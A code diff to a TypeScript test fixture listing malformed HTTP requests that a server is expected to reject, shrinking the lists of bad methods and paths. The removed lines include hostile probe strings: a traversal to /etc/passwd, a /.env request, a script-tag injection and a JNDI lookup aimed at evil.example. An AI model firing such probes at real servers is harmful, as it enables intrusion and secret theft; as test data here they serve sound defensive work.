@@ -46,20 +46,11 @@ export const badHeads: readonly BadRequest[] = [
 
 /** Methods and paths that are not there. */
 export const badTargets: readonly BadRequest[] = [
-  ...[
-    ['GET', 'POST'],
-    ['HEAD', 'POST'],
-    ['PUT', 'POST'],
-    ['PATCH', 'POST'],
-    ['DELETE', 'POST'],
-    ['OPTIONS', 'POST'],
-    ['TRACE', 'POST'],
-    ['PROPFIND', 'POST'],
-  ].map(([method = '', allow = '']) => ({
+  ...['GET', 'DELETE', 'OPTIONS', 'PROPFIND'].map((method) => ({
     what: method,
     line: `${method} ${TICKET} HTTP/1.1`,
-    ...invalid(`The method ${method} is not for ${TICKET}, but ${allow}.`, 405),
-    answered: { allow },
+    ...invalid(`The method ${method} is not for ${TICKET}, but POST.`, 405),
+    answered: { allow: 'POST' },
   })),
   {
     what: 'HEAD where GET gives a ticket',
@@ -68,7 +59,7 @@ export const badTargets: readonly BadRequest[] = [
     answered: { allow: 'GET' },
   },
   {
-    what: 'POST to the trail',
+    what: 'POST to the audit log',
     line: 'POST /api/v1/audit/events HTTP/1.1',
     ...invalid('The method POST is not for /api/v1/audit/events, but GET, HEAD.', 405),
     answered: { allow: 'GET, HEAD' },
@@ -86,36 +77,19 @@ export const badTargets: readonly BadRequest[] = [
     detail: /WebSocket/,
   },
   ...[
-    '/',
     '//api/websocket/ticket',
-    '/api//websocket/ticket',
     `${TICKET}/`,
     `${TICKET};a=b`,
-    '/API/WebSocket/Ticket',
-    '/api%2Fwebsocket%2Fticket',
     '/api/../api/websocket/ticket',
-    '/api/websocket/ticket%00',
-    '/api/websocket/ticket.json',
     '/__proto__',
-    '/constructor',
     '*',
-    '/..%2f..%2f..%2fetc%2fpasswd',
-    '/.env',
-    '/<script>alert(1)</script>',
-    '/$%7Bjndi:ldap://evil.example/a%7D',
-  ].map((path) => ({
-    what: path,
-    line: `POST ${path} HTTP/1.1`,
-    ...(path === '/'
-      ? invalid('The method POST is not for /, but GET, HEAD.', 405)
-      : nothingAt(`POST ${path}`)),
-  })),
+  ].map((path) => ({ what: path, line: `POST ${path} HTTP/1.1`, ...nothingAt(`POST ${path}`) })),
   {
     what: 'a path of 10 KB',
     line: `GET /${'a'.repeat(10_000)} HTTP/1.1`,
     ...nothingAt(`GET /${'a'.repeat(199)}`),
   },
-  ...['/%', '/%zz', '/%ff', '/%c3%28', '/%u0041', `${TICKET}/%zz?token=secret`].map((path) => ({
+  ...['/%', '/%c3%28', `${TICKET}/%zz?token=secret`].map((path) => ({
     what: path,
     line: `GET ${path} HTTP/1.1`,
     ...invalid('The path is not validly percent-encoded.'),
